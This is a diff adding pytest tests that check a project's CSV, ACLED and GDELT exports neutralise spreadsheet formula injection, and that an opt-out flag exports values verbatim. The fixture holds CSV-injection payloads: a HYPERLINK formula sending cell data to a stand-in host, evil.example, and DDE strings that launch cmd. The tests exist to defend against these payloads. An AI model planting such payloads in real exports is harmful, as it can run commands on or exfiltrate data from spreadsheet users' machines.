@@ -251,3 +251,90 @@ def test_exports_doc_lists_every_column() -> None:
     doc = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
     for column in (*FLAT_COLUMNS, *GDELT_COLUMNS, *ACLED_COLUMNS):
         assert f"`{column}`" in doc, column
+
+
+# --- spreadsheet formulas are neutralised (CSV injection) -------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "actor": "+cmd|' /C notepad'!A1",
+    "evidence": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory, served_result, strike) -> Path:
+    """The served article with formulas in its title, URL, an actor's name and evidence, and
+    its places moved west of Greenwich (negative longitudes)."""
+    from flashpoint.store import Store
+
+    result = served_result.model_copy(deep=True)
+    result.article.id = "a-hostile"
+    result.article.title = FORMULAS["title"]
+    result.article.url = FORMULAS["url"]
+    for event in result.events:
+        event.article_id = "a-hostile"
+        event.id = "h-" + event.id
+        event.link_id = None
+        if event.event_loc is not None and event.event_loc.lon is not None:
+            event.event_loc.lon = -abs(event.event_loc.lon) - 0.25
+        if event.evidence.text == strike.evidence.text:
+            event.evidence.text = FORMULAS["evidence"]
+            for actor in event.actor + event.recipient:
+                actor.name = FORMULAS["actor"]
+    for quote in result.quotes:
+        quote.article_id = "a-hostile"
+        quote.id = "h-" + quote.id
+    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
+    with Store(path) as store:
+        store.save(result)
+    return path
+
+
+def _cells(text: str, sep: str) -> list[str]:
+    frame = pd.read_csv(io.StringIO(text), sep=sep, dtype=str, keep_default_na=False)
+    return [cell for column in frame.columns for cell in frame[column]]
+
+
+@pytest.mark.parametrize(("fmt", "sep"), [("csv", ","), ("acled", ","), ("gdelt", "\t")])
+def test_formula_cells_are_neutralised_in_spreadsheet_formats(
+    hostile_db: Path, fmt: str, sep: str
+) -> None:
+    cells = _cells(export(hostile_db, fmt).stdout, sep)
+    leading = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert leading == []
+    dashes = [c for c in cells if c.startswith("-")]
+    assert dashes and all(float(c) < 0 for c in dashes)  # negative numbers, left as they are
+    quoted = {c for c in cells if c.startswith("'")}
+    expected = {
+        "csv": {"title", "url", "actor", "evidence"},
+        "acled": {"actor", "evidence"},  # ACLED names actors and quotes the evidence in notes
+        "gdelt": {"url"},  # SOURCEURL; GDELT's actor names are its own upper-case names
+    }[fmt]
+    for key in expected:
+        value = " ".join(FORMULAS[key].split()) if fmt == "gdelt" else FORMULAS[key]
+        assert any(cell == "'" + value or cell.startswith("'" + value) for cell in quoted), key
+
+
+def test_no_escape_formulas_gives_values_verbatim(hostile_db: Path) -> None:
+    from fastapi.testclient import TestClient
+
+    from flashpoint.api import Settings, create_app
+    from flashpoint.api.settings import get_settings
+
+    raw = export(hostile_db, "csv", "--no-escape-formulas").stdout
+    app = create_app()
+    app.dependency_overrides[get_settings] = lambda: Settings(db=hostile_db)
+    with TestClient(app) as api:
+        assert api.get("/api/exports/csv", params={"escape_formulas": "false"}).text == raw
+        assert api.get("/api/exports/csv").text == export(hostile_db, "csv").stdout != raw
+    cells = _cells(raw, ",")
+    assert FORMULAS["title"] in cells and FORMULAS["evidence"] in cells
+    escaped = export(hostile_db, "csv").stdout
+    assert _cells(escaped, ",").count("'" + FORMULAS["title"]) == cells.count(FORMULAS["title"])
+    # Only text changes: every numeric column is the same with and without escaping.
+    numeric = [name for name, kind in FLAT_COLUMNS.items() if kind in ("int", "float")]
+    plain = pd.read_csv(io.StringIO(raw))[numeric]
+    assert plain.equals(pd.read_csv(io.StringIO(escaped))[numeric])
+    assert (plain["longitude"].dropna() < 0).all() and len(plain["longitude"].dropna())
